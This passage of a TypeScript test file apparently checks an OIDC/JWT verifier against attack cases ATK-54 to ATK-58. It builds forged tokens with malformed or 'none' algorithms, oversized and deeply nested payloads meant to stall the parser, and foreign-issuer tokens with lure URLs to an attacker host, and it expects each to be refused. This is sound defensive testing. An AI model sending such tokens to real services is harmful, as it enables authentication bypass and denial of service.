      const sign = (label: string, raw: string): AttackToken => ({ label, token: ctx.sign(raw, ctx.claims(), ctx.signingKey, ctx.signingKey.alg) });
      return Promise.resolve([
        sign('no alg', JSON.stringify(mergeMembers(header, { alg: undefined }))),
        sign('alg null', JSON.stringify(mergeMembers(header, { alg: null }))),
        sign('alg an array', JSON.stringify(mergeMembers(header, { alg: [header['alg']] }))),
        sign('alg an empty string', JSON.stringify(mergeMembers(header, { alg: '' }))),
        sign('the header an array', JSON.stringify([header])),
        sign('the header truncated JSON', JSON.stringify(header).slice(0, -1)),
        sign('the header null', 'null'),
      ]);
    },
  },
  {
    id: 'ATK-54',
    title: 'an oversized token (100 KB)',
    rule: 'Unauthenticated input: a verifier bounds the size it reads and parses before any signature check (real tokens are a few KB).',
    expect: 'refused',
    build(ctx) {
      const { rsa } = attackerMaterial();
      const padding = 'A'.repeat(75_000); // ~100 KB once base64url-encoded
      return Promise.resolve([
        { label: '100 KB, the attacker\'s key under the real kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg }), mergeMembers(ctx.claims(), { padding }), rsa, rsa.alg) },
        { label: '100 KB, alg none', token: unsigned(mergeMembers(ctx.header(), { alg: 'none' }), mergeMembers(ctx.claims(), { padding })) },
        { label: '100 KB of header, the attacker\'s key', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, padding }), ctx.claims(), rsa, rsa.alg) },
      ]);
    },
  },
  {
    id: 'ATK-55',
    title: 'deeply nested JSON in the header or the claims',
    rule: 'Unauthenticated input: parsing it must not crash or stall the verifier (a 500 or a hang is a failure); the token is refused.',
    expect: 'refused',
    build(ctx) {
      const { rsa } = attackerMaterial();
      const header = mergeMembers(ctx.header(), { alg: rsa.alg });
      return Promise.resolve([
        { label: 'a claim 2 000 arrays deep, the attacker\'s key', token: ctx.sign(header, jsonWith(ctx.claims(), `"deep":${nested(2000)}`), rsa, rsa.alg) },
        { label: 'a header member 2 000 arrays deep, the attacker\'s key', token: ctx.sign(jsonWith(header, `"deep":${nested(2000)}`), ctx.claims(), rsa, rsa.alg) },
        { label: 'a claim 100 000 arrays deep, alg none', token: unsigned(mergeMembers(ctx.header(), { alg: 'none' }), jsonWith(ctx.claims(), `"deep":${nested(100_000)}`)) },
      ]);
    },
  },
  {
    id: 'ATK-56',
    title: 'a token of another issuer, signed with its own key under a matching kid',
    rule: 'OIDC Core §3.1.3.7 step 2, RFC 9068 §4: the issuer is configured, never taken from the token (no discovery of the token\'s iss).',
    expect: 'refused',
    build(ctx) {
      const { rsa } = attackerMaterial();
      const foreign = ctx.attackerUrl;
      const lures = [`${foreign}/.well-known/openid-configuration`, `${foreign}/jwks`];
      return Promise.resolve([
        { label: 'iss the attacker, kid of the real key', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid }), mergeMembers(ctx.claims(), { iss: foreign }), rsa, rsa.alg), lures },
        { label: 'iss the attacker, the attacker\'s kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: rsa.kid }), mergeMembers(ctx.claims(), { iss: foreign }), rsa, rsa.alg), lures },
      ]);
    },
  },
  {
    id: 'ATK-57',
    title: 'a replay of a valid token (presented twice)',
    rule: 'Back-Channel Logout §2.6 step 6 (jti replay); OIDC Core §3.1.3.7 step 11 and §15.5.2 (an ID token is bound to one authentication by its nonce).',
    expect: 'refused',
    notApplicable: {
      userinfo: 'A UserInfo response is fetched by the relying party itself over TLS; there is no presentation an attacker could repeat.',
      id_token_refresh: 'A refreshed ID token is fetched by the relying party itself from the token endpoint over TLS; there is no presentation an attacker could repeat (an old one fails its iat window, ATK-42).',
      access_token: 'By design a bearer access token may be presented any number of times until exp (RFC 6750; RFC 9068 has no one-time use): oidc-kit accepts reuse until exp and caches verified tokens by hash; revocation before exp needs strategy "introspection".',
    },
    async build(ctx) {
      return [{ label: 'the same valid token twice', token: await ctx.mint(), presentTwice: true }];
    },
  },
  {
    id: 'ATK-58',
    title: 'a sender-constrained token (cnf) presented as a plain bearer token',
    rule: 'RFC 9449 §7.1 / RFC 8705 §3: a token bound to a key needs proof of possession, which a bearer presentation lacks.',
    expect: 'refused',
    notApplicable: { id_token: NOT_PRESENTED_AS_BEARER, id_token_refresh: NOT_PRESENTED_AS_BEARER, logout_token: NOT_PRESENTED_AS_BEARER, userinfo: NOT_PRESENTED_AS_BEARER },
    async build(ctx) {
      return [
        { label: 'cnf.jkt (DPoP-bound)', token: await ctx.mint({ cnf: { jkt: b64u(createHash('sha256').update('attacker').digest()) } }) },
        { label: 'cnf.x5t#S256 (mTLS-bound)', token: await ctx.mint({ cnf: { 'x5t#S256': b64u(createHash('sha256').update('cert').digest()) } }) },
      ];
    },
  },
  ...STRUCTURE_ATTACKS,
];
